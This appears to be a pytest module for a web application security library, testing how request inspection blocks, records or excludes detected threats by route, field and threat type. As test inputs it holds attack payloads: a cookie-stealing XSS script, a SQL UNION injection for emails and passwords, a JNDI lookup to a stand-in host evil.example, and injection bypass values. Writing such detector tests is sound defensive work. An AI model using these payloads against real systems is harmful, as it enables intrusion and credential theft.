"""What is done about a finding: by route, threat type and exclusion, in code and by policy."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Annotated, Any

import httpx
import pytest
from fastapi import Depends, FastAPI
from hypothesis import given, strategies as st
from msgspec.structs import replace

from gatewright.errors import ConfigurationError
from gatewright.events import ListSink, SecurityEvent
from gatewright.foundation import SecurityFoundation
from gatewright.inspection_policy import DetectionPolicy, Exclusion, InspectionPolicy, RouteInspection, steps_of
from gatewright.notify import MemoryNotifier
from gatewright.policy import load_policy
from gatewright.settings import Settings
from gatewright.testing import ManualClock
from gatewright.threats import MAX_DEPTH, MAX_FINDINGS, MAX_TEXTS, Walk
from gatewright.web import (
    MANY,
    Enforcement,
    PathRules,
    RouterRules,
    RouteRule,
    create_app,
    install,
    open_to_all,
    requires,
    take_out,
    without,
)
from gatewright.web.enforcement import _ready
from tests.support.rules import OWN_RULE
from tests.web.conftest import Join

SCRIPT = "<script>alert(document.cookie)</script>"
UNION = "x' UNION SELECT email, password FROM accounts --"
MARKUP = ("xss", "script_injection")
TODAY = date(2026, 1, 1)


def exclusion(**values: Any) -> Exclusion:
    given: dict[str, Any] = {
        "route": "POST /open/{kind}",
        "field": "$.html",
        "threats": MARKUP,
        "reason": "cleaned by the shop",
        "author": "anna",
        "until": TODAY + timedelta(days=365 * 20),
    }
    return Exclusion(**{**given, **values})


IN_CODE = exclusion(route="", field="$.page")
ANOTHER = exclusion(route="", field="$.text")


@pytest.fixture
def events(foundation: SecurityFoundation) -> ListSink:
    sink = ListSink()
    foundation.sink.add(sink)
    return sink


@pytest.fixture
def app(foundation: SecurityFoundation) -> FastAPI:
    own = FastAPI()

    @own.post("/coded")
    async def coded(
        body: dict[str, Any],
        caller: Annotated[Any, Depends(requires(threats={"sql_injection": "shadow"}, exclusions=[IN_CODE]))],
    ) -> None:
        return None

    @own.post("/open/{kind}")
    @own.get("/open/{kind}")
    async def open_route(kind: str) -> dict[str, str]:
        return {"kind": kind}

    @own.post("/off", dependencies=[Depends(open_to_all(inspection="off"))])
    async def off() -> None:
        return None

    install(own, foundation)
    return own


Adopt = Callable[..., Any]


@pytest.fixture
def adopt(foundation: SecurityFoundation) -> Adopt:
    """Put another policy in force while the service runs."""

    async def change(*exclusions: Exclusion, routes: tuple[RouteInspection, ...] = (), mode: str = "block") -> None:
        policy = replace(
            load_policy(),
            inspection=InspectionPolicy(routes=routes, exclusions=exclusions),
            detection=DetectionPolicy(mode=mode),  # type: ignore[arg-type]  # a mode's name
        )
        await foundation.rbac.reload_policy(policy)

    return change


def told(events: ListSink) -> SecurityEvent:
    """The one event about an inspection since the last call."""
    (found,) = [e for e in events.events if e.kind.startswith("threats:request:")]
    events.events.clear()
    return found


# --- what cannot be seen whole -----------------------------------------------------------------------------------


def _deep(levels: int) -> Any:
    value: Any = "x"
    for _ in range(levels):
        value = [value]
    return {"text": value}


async def test_block_mode_refuses_what_cannot_be_seen_whole(
    http: httpx.AsyncClient, adopt: Adopt, events: ListSink
) -> None:
    assert (await http.post("/open/a", json=_deep(MAX_DEPTH - 3))).status_code == 200
    refused = await http.post("/open/a", json=_deep(MAX_DEPTH + 1))
    assert (refused.status_code, refused.json()["code"]) == (403, "INSPECTION_TRUNCATED")
    assert "too deep" in refused.json()["detail"]
    assert told(events).kind == "threats:request:blocked"
    many = await http.post("/open/a", json={"texts": [f"text {number}" for number in range(MAX_TEXTS)]})
    assert many.json()["code"] == "INSPECTION_TRUNCATED"
    events.events.clear()
    await adopt(mode="shadow")
    assert (await http.post("/open/a", json=_deep(MAX_DEPTH + 1))).status_code == 200
    assert told(events).kind == "threats:request:seen"
    await adopt(mode="off")
    assert (await http.post("/open/a", json=_deep(MAX_DEPTH + 1))).status_code == 200
    assert [e.kind for e in events.events if e.kind.startswith("threats:request:")] == []


async def test_one_type_that_blocks_is_enough_to_refuse_what_cannot_be_seen_whole(
    http: httpx.AsyncClient, adopt: Adopt
) -> None:
    await adopt(routes=(RouteInspection(route="/open/*", mode="off", threats={"ssrf": "block"}),))
    assert (await http.post("/open/a", json=_deep(MAX_DEPTH + 1))).status_code == 403


# --- what was harmless before -----------------------------------------------------------------------------------


async def test_a_header_is_looked_at_again_by_other_rules(tmp_path: Path) -> None:
    (tmp_path / "own.toml").write_text(OWN_RULE.format(word="zebra"))
    settings = Settings(database=":memory:", rules_dir=tmp_path)
    async with SecurityFoundation(settings, notifier=MemoryNotifier()) as foundation:
        transport = httpx.ASGITransport(create_app(foundation), raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            headers = {"user-agent": "a gnu runs"}
            assert [(await client.get("/nowhere", headers=headers)).status_code for _ in range(2)] == [404, 404]
            (tmp_path / "own.toml").write_text(OWN_RULE.format(word="gnu"))
            await foundation.validator.load_threat_patterns()
            assert (await client.get("/nowhere", headers=headers)).status_code == 403


# --- exclusions -------------------------------------------------------------------------------------------------


async def test_an_excluded_field_lets_pass_and_is_recorded(
    http: httpx.AsyncClient, adopt: Adopt, events: ListSink
) -> None:
    body = {"products": [{"html": "<p>fine</p>"}, {"html": SCRIPT}]}
    assert (await http.post("/open/a", json=body)).status_code == 403
    first = told(events)
    assert (first.data["findings"][0]["part"], first.data["findings"][0]["field"]) == ("body", "$.products[*].html")
    await adopt(exclusion(field=first.data["findings"][0]["field"]))
    assert (await http.post("/open/a", json=body)).status_code == 200
    event = told(events)
    assert event.kind == "threats:request:excluded"
    assert event.data["findings"][0]["mode"] == "shadow"
    assert "by anna until" in event.data["findings"][0]["excluded"]


async def test_an_exclusion_is_for_its_types_its_field_and_its_route(
    http: httpx.AsyncClient, adopt: Adopt, events: ListSink
) -> None:
    await adopt(exclusion())
    for path, body in (
        ("/open/a", {"html": UNION}),
        ("/open/a", {"text": SCRIPT}),
        ("/open/a", {"html": SCRIPT, "text": UNION}),
        ("/open/a", {"htmlx": SCRIPT}),
        ("/open/a", {"in": {"html": SCRIPT}}),
        ("/open/a", {"html.x": SCRIPT}),
        ("/open/a?html=" + SCRIPT, {}),
        ("/open/a/b", {"html": SCRIPT}),
        ("/other", {"html": SCRIPT}),
    ):
        answer = await http.post(path, json=body)
        assert answer.status_code == 403, (path, body)
        assert told(events).kind == "threats:request:blocked"
    assert (await http.put("/open/a", json={"html": SCRIPT})).status_code == 403


async def test_a_refusal_tells_which_findings_were_let_pass(
    http: httpx.AsyncClient, adopt: Adopt, events: ListSink
) -> None:
    await adopt(exclusion())
    assert (await http.post("/open/a", json={"html": SCRIPT, "text": UNION})).status_code == 403
    findings = told(events).data["findings"]
    assert findings[0]["mode"] == "block" and findings[0]["field"] == "$.text"
    assert {f["field"] for f in findings if "excluded" in f} == {"$.html"}


async def test_query_headers_and_repeated_parameters(http: httpx.AsyncClient, adopt: Adopt) -> None:
    agent = "${jndi:ldap://evil.example/a}"
    await adopt(
        exclusion(route="/open/*", part="query", field="$.q", threats="all"),
        exclusion(route="/open/*", part="headers", field="$.user-agent", threats="all"),
    )
    queries: list[dict[str, str | list[str]]] = [{"q": UNION}, {"q": ["a", UNION]}]
    for query in queries:
        assert (await http.get("/open/a", params=query, headers={"user-agent": agent})).status_code == 200
    assert (await http.get("/open/a", params={"r": UNION})).status_code == 403
    assert (await http.get("/open/a", headers={"referer": agent})).status_code == 403


async def test_an_exclusion_ends_with_its_last_day(
    http: httpx.AsyncClient, adopt: Adopt, events: ListSink, foundation: SecurityFoundation
) -> None:
    clock = foundation.clock
    assert isinstance(clock, ManualClock)
    until = clock.now().date()
    await adopt(exclusion(until=until))
    body = {"html": SCRIPT}
    assert (await http.post("/open/a", json=body)).status_code == 200
    left = timedelta(days=1) - (clock.now() - clock.now().replace(hour=0, minute=0, second=0, microsecond=0))
    clock.advance(left.total_seconds() + 1)
    events.events.clear()
    for _ in range(2):
        assert (await http.post("/open/a", json=body)).status_code == 403
    ended = [e for e in events.events if e.kind == "threats:exclusion:expired"]
    assert len(ended) == 1 and "$.html" in ended[0].data["exclusion"]


async def test_posture_names_exclusions_that_ended_or_soon_will(foundation: SecurityFoundation, adopt: Adopt) -> None:
    today = foundation.clock.now().date()
    await adopt(
        exclusion(field="$.old", until=today - timedelta(days=1)),
        exclusion(field="$.soon", until=today + timedelta(days=7)),
        exclusion(field="$.later", until=today + timedelta(days=70)),
    )
    found = {f.finding_id: f.measured for f in await foundation.monitor.assess()}
    (old,), (soon,) = (found[f"fact:exclusions_{name}"][f"exclusions_{name}"] for name in ("expired", "expiring"))
    assert "$.old" in old and "$.soon" in soon


async def test_exclusions_and_modes_in_code(
    http: httpx.AsyncClient, join: Join, events: ListSink, foundation: SecurityFoundation
) -> None:
    headers = (await join())["headers"]
    assert (await http.post("/coded", json={"page": SCRIPT}, headers=headers)).status_code == 200
    assert told(events).kind == "threats:request:excluded"
    assert [one.field for one in foundation.declared_exclusions] == ["$.page"]
    assert (await http.post("/coded", json={"other": UNION}, headers=headers)).status_code == 200
    assert told(events).kind == "threats:request:seen"
    assert (await http.post("/coded", json={"other": SCRIPT}, headers=headers)).status_code == 403


async def test_many_findings_that_pass_hide_none_behind_them(
    http: httpx.AsyncClient, adopt: Adopt, events: ListSink
) -> None:
    """The detector stops at so many findings; what is refused may are behind them."""
    await adopt(exclusion(field="$.rows[*].html"), exclusion(field="$.rows[*].html", threats=["template_injection"]))
    rows = [{"html": f"{SCRIPT} {number}"} for number in range(2 * MANY)]
    assert (await http.post("/open/a", json={"rows": rows})).status_code == 200
    assert told(events).kind == "threats:request:excluded"
    for hidden in ({"rows": rows, "z": UNION}, {"rows": [*rows, {"html": UNION}]}):
        assert (await http.post("/open/a", json=hidden)).status_code == 403
        event = told(events)
        assert event.kind == "threats:request:blocked" and event.data["findings"][0]["threat_type"] == "sql_injection"


# --- modes ------------------------------------------------------------------------------------------------------


async def test_modes_by_route_and_threat_type(http: httpx.AsyncClient, adopt: Adopt, events: ListSink) -> None:
    await adopt(
        routes=(
            RouteInspection(route="POST /open/{kind}", threats={"xss": "shadow", "script_injection": "off"}),
            RouteInspection(route="/open/*", mode="shadow", threats={"sql_injection": "block"}),
            RouteInspection(route="/off", threats={"sql_injection": "block"}),
        )
    )
    assert (await http.post("/open/a", json={"a": SCRIPT})).status_code == 200
    assert told(events).kind == "threats:request:seen"
    assert (await http.post("/open/a", json={"a": UNION})).status_code == 403
    events.events.clear()
    assert (await http.get("/open/a", params={"a": SCRIPT})).status_code == 200
    assert (await http.get("/open/a", params={"a": UNION})).status_code == 403
    events.events.clear()
    assert (await http.post("/off", json={"a": SCRIPT})).status_code == 200
    assert not events.kinds(), "a type that is off leaves no event"
    assert (await http.post("/off", json={"a": UNION})).status_code == 403


async def test_the_mode_of_the_installation(adopt: Adopt, foundation: SecurityFoundation) -> None:
    """A setting that is given wins over the policy; the policy is followed when it changes."""
    assert foundation.inspection_mode == "block"
    await adopt(mode="shadow")
    assert foundation.inspection_mode == "shadow"
    explicit = SecurityFoundation(
        Settings(database=":memory:", inspection_mode="off"), policy=foundation.rbac.policy, clock=foundation.clock
    )
    assert explicit.inspection_mode == "off"


async def test_no_route_says_anything(http: httpx.AsyncClient, adopt: Adopt, events: ListSink) -> None:
    await adopt(mode="shadow")
    assert (await http.post("/open/a", json={"a": UNION})).status_code == 200
    assert told(events).kind == "threats:request:seen"


@pytest.mark.parametrize(
    "wrong",
    [
        {"threats": {"xs": "block"}},
        {"threats": {"xss": "blok"}},
        {"inspection": "blok"},
        {"exclusions": (exclusion(field="html"),)},
        {"exclusions": (exclusion(reason=" "),)},
    ],
)
def test_a_rule_that_says_nonsense_is_refused_where_it_is_made(wrong: dict[str, Any]) -> None:
    with pytest.raises(ConfigurationError):
        RouteRule(**wrong)


def test_two_dependencies_of_one_route_are_taken_together() -> None:
    own = FastAPI()

    @own.post("/x", dependencies=[Depends(requires(threats={"xss": "off"}, exclusions=[IN_CODE]))])
    async def route(caller: Annotated[Any, Depends(requires(exclusions=[ANOTHER]))]) -> None:
        return None

    rule = RouterRules(own).resolve({"type": "http", "method": "POST", "path": "/x", "headers": []})
    assert dict(rule.threats) == {"xss": "off"} and {e.field for e in rule.exclusions} == {"$.page", "$.text"}


def test_without_anything_special_nothing_is_made_for_a_request(foundation: SecurityFoundation) -> None:
    treatments = _treatments(InspectionPolicy())
    rule = RouteRule()
    first = treatments.of(rule, {"method": "GET", "path": "/a"})
    assert first is treatments.of(rule, {"method": "GET", "path": "/b"})
    assert PathRules().resolve({"path": "/"}).exclusions == ()


@pytest.mark.parametrize("path", ["/export/a", "/export/a\nb", "/export/\n", "/export/a\r\n/b"])
@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_a_rule_by_path_holds_for_any_character_and_for_head(method: str, path: str) -> None:
    rules = PathRules([("GET", "/export/*", RouteRule(auth="required"))], default=RouteRule())
    assert rules.resolve({"method": method, "path": path}).auth == "required"
    assert rules.resolve({"method": "POST", "path": path}).auth == "optional"
    policy = InspectionPolicy(routes=(RouteInspection(route="GET /export/*", mode="off"),))
    assert not _treatments(policy).of(RouteRule(), {"method": method, "path": path}).looks


def test_the_detector_stops_at_no_fewer_findings() -> None:
    assert MANY == MAX_FINDINGS


def test_treatments_are_remembered_by_path_within_bounds() -> None:
    treatments = _treatments(InspectionPolicy(exclusions=(exclusion(route="/a/*"),)))
    rule = RouteRule()
    first = treatments.of(rule, {"method": "GET", "path": "/a/1"})
    assert first is treatments.of(rule, {"method": "GET", "path": "/a/1"}) and first.excluded
    for number in range(5_000):
        treatments.of(rule, {"method": "GET", "path": f"/b/{number}"})
    assert first is not treatments.of(rule, {"method": "GET", "path": "/a/1"})


def _treatments(policy: InspectionPolicy) -> Enforcement:
    return Enforcement(
        "block", SimpleNamespace(policy=SimpleNamespace(inspection=policy)), ManualClock(), ListSink(), []
    )


# --- fields -----------------------------------------------------------------------------------------------------

VALUE = {"a": [{"b": 1, "x.y": 2}, {"b": 3}], "c": {"d": 4, "e-f": 5}}


@pytest.mark.parametrize(
    ("field", "taken"),
    [
        ("$", [VALUE]),
        ("$.a[*].b", [1, 3]),
        ("$.a[1]", [{"b": 3}]),
        ("$.a[9]", []),
        ("$.c.*", [4, 5]),
        ("$.c.e-f", [5]),
        ("$.a[0]['x.y']", [2]),
        ("$.a.b", []),
        ("$.none.d", []),
    ],
)
def test_what_a_field_names(field: str, taken: list[Any]) -> None:
    """The same in the value and in the paths of findings."""
    found: list[Any] = []
    rest = take_out(VALUE, steps_of(field) or [], found)
    assert found == taken
    left = {t.path for t in Walk({"body": _texts(rest)}) if not t.is_key}
    all_paths = {t.path for t in Walk({"body": _texts(VALUE)}) if not t.is_key}
    pattern = _ready(exclusion(field=field)).pattern
    assert left == {path for path in all_paths if not pattern.fullmatch(path)}


def _texts(value: Any) -> Any:
    """The value with texts for numbers, which alone are walked to."""
    if isinstance(value, dict):
        return {k: _texts(v) for k, v in value.items()}
    return [_texts(v) for v in value] if isinstance(value, list) else None if value is None else str(value)


names = st.text(st.characters(exclude_characters="'\\", exclude_categories=["Cs"]), min_size=1, max_size=20)


@given(names, names)
def test_no_name_is_taken_for_another(one: str, other: str) -> None:
    ready = _ready(exclusion(field=f"$['{one}']", threats="all"))
    (path,) = {t.path for t in Walk({"body": {other: "x"}}) if not t.is_key}
    assert (ready.pattern.fullmatch(path) is not None) == (one == other)


def test_what_stands_for_a_secret_and_is_no_text_is_inspected() -> None:
    excluded = RouteRule().exclude | {"mine"}
    body = {"password": "p' OR 1=1", "new_password": {"$ne": ""}, "mine": {"a": 1}, "b": 1}
    assert without(body, excluded) == {"new_password": {"$ne": ""}, "b": 1}


@pytest.mark.parametrize("name", ["content-type", "content-encoding"])
async def test_a_body_of_two_declarations_is_refused(http: httpx.AsyncClient, name: str) -> None:
    """The application may take the second for true."""
    headers = [("content-type", "application/octet-stream"), ("content-encoding", "identity"), (name, "text/plain")]
    refused = await http.post("/open/a", content=b"q=%27&z=\xff", headers=headers)
    assert (refused.status_code, refused.json()["code"]) == (400, "REPEATED_HEADER")
    assert (await http.post("/open/a", content=b"q=1", headers=headers[:2])).status_code == 200


@pytest.mark.parametrize("field", ["code", "token", "mfa_code", "refresh_token"])
async def test_what_may_be_anything_in_an_application_is_inspected(http: httpx.AsyncClient, field: str) -> None:
    assert (await http.post("/open/a", json={field: UNION})).status_code == 403
    assert (await http.post("/open/a", json={field: "AB12-cd34"})).status_code == 200
